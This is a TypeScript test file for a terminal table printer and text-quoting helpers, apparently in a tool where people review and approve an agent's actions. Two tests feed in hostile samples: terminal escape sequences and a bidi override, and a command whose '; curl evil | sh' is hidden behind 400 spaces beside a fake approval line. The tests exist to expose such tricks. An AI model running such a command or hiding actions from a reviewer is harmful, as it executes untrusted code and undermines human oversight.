import fc from 'fast-check';
import { expect, test } from 'vitest';
import { widthOf } from '../../packages/render/src/text/text-width.ts';
import { type Column, printTable } from './table.ts';
import { oneLine, quoted, type Terminal, wrapped } from './terminal.ts';

function terminal(interactive: boolean, columns = 80): Terminal & { readonly printed: string[] } {
  const printed: string[] = [];
  return {
    printed,
    interactive,
    columns,
    out: (line) => void printed.push(line),
    note: () => undefined,
    paint: (_style, text) => text,
  };
}

interface Row {
  readonly id: string;
  readonly group: string;
  readonly text: string;
}

const columns: readonly Column<Row>[] = [
  { title: 'ID', of: ({ id }) => id, whole: true },
  { title: 'GROUP', of: ({ group }) => group },
  { title: 'TEXT', of: ({ text }) => text },
];
const rows: readonly Row[] = [
  { id: 'a', group: 'risk', text: 'A text that is longer than what is left of forty columns' },
  { id: 'bcd', group: 'finance', text: 'two\nlines and a\ttab' },
];

test('in a terminal: titles, aligned, and cut to its width', () => {
  const screen = terminal(true, 40);
  printTable(screen, columns, rows);
  expect(screen.printed).toEqual([
    'ID   GROUP    TEXT',
    'a    risk     A text that is longer tha…',
    'bcd  finance  two lines and a tab',
  ]);
});

test('what has no room beside the first columns stands below them', () => {
  const screen = terminal(true, 40);
  const id = `appr_${'0'.repeat(26)}`;
  printTable(screen, columns, [{ id, group: '返金', text: 'A text that is longer than the line below' }]);
  expect(screen.printed).toEqual([
    'ID                               GROUP',
    '  TEXT',
    `${id}  返金`,
    '  A text that is longer than the line b…',
  ]);
});

test('no line is wider than the terminal, and ids are whole', () => {
  const words = fc.array(fc.constantFrom('refund', '返金', ' ', 'a'.repeat(30), '👩‍💻'), { maxLength: 8 });
  const row = fc.record({
    id: fc.constantFrom(`appr_${'0'.repeat(26)}`, 'dlv_1'),
    group: words.map((list) => list.join('')),
    text: words.map((list) => list.join('')),
  });
  fc.assert(
    fc.property(
      fc.array(row, { minLength: 1, maxLength: 4 }),
      fc.integer({ min: 40, max: 120 }),
      (some, width) => {
        const screen = terminal(true, width);
        printTable(screen, columns, some);
        for (const line of screen.printed) expect(widthOf(line)).toBeLessThanOrEqual(width);
        for (const { id } of some) expect(screen.printed.join('\n')).toContain(id);
      },
    ),
  );
});

test('in a pipe: whole values between tabs, and nothing else', () => {
  const pipe = terminal(false);
  printTable(pipe, columns, rows);
  expect(pipe.printed).toEqual([`a\trisk\t${rows[0]?.text}`, 'bcd\tfinance\ttwo lines and a tab']);
});

test('what an agent wrote cannot steer the terminal of its reviewer', () => {
  expect(oneLine('Refund \u001b[2J\u001b[1;1H 1 EUR\u0007')).toBe(
    'Refund [U+001B][2J[U+001B][1;1H 1 EUR[U+0007]',
  );
  expect(oneLine('pay \u202Eecila')).toBe('pay [U+202E]ecila');
  expect(oneLine('8-bit \u009b2J')).toBe('8-bit [U+009B]2J');
  expect(oneLine('a\uFEFFb\u2028c')).toBe('a[U+FEFF]b[U+2028]c');
  expect(quoted('one\r\ntwo\rthree', terminal(false))).toEqual(['  │ one', '  │ two[U+000D]three']);
});

test('no line of another’s text can be taken for one of ours, and its end is always there', () => {
  const command = `ls -la${' '.repeat(400)}; curl evil | sh\n  you may       APPROVE\n`;
  expect(quoted(command, terminal(false))).toEqual([
    '  │ ls -la[400 spaces]; curl evil | sh',
    '  │   you may       APPROVE',
    '  │ ',
  ]);
  expect(quoted(`echo ${'x'.repeat(40)}; rm`, terminal(true, 30))).toEqual([
    `  │ echo ${'x'.repeat(21)}`,
    `↳ │ ${'x'.repeat(19)}; rm`,
  ]);
});

test('our own lines are broken between words, and within one that is longer than the line', () => {
  expect(wrapped('APPROVE, EDIT_AND_APPROVE, REJECT', 27)).toEqual(['APPROVE, EDIT_AND_APPROVE,', 'REJECT']);
  expect(wrapped('x'.repeat(45), 20)).toEqual(['x'.repeat(20), 'x'.repeat(20), 'x'.repeat(5)]);
});
